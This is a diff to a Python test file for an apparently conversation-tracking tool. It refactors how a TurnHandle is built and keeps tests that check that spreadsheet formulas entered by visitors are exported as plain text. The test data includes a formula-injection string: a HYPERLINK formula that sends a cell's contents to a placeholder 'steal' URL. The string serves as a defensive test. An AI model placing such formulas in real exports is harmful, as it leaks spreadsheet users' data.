@@ -16,7 +16,7 @@ from core import exports, traces
 from core.config import Settings
 from core.conversations import Conversation, ConversationStore
 from core.observe import export
-from core.turn.handle import TurnHandle
+from core.turn import TurnHandle, TurnRequest
 
 FORMULA = '=HYPERLINK("http://127.0.0.1:9/steal?d="&B2,"Open report")'
 
@@ -35,7 +35,7 @@ def test_a_cell_a_spreadsheet_would_run_is_text(start):
 def test_a_visitors_formula_is_text_in_the_trace_list_and_breakdowns_and_kept_in_json(tracking_uri, experiment_name):
     store = ConversationStore.connect(tracking_uri, experiment_name)
     conversation = Conversation(scenario="catify", session_id="@v1", provider="demo", options={"iterations": 1})
-    outcome = TurnHandle(conversation, FORMULA, Settings(tracking_uri=tracking_uri), store).start().wait(120)
+    outcome = TurnHandle(TurnRequest(conversation, FORMULA, Settings(tracking_uri=tracking_uri), store)).start().wait(120)
     assert outcome is not None and outcome.status == "ok", outcome and outcome.error
     export.flush()
     frames = traces.SqlTraceReader(tracking_uri, store.experiment_id).frames()
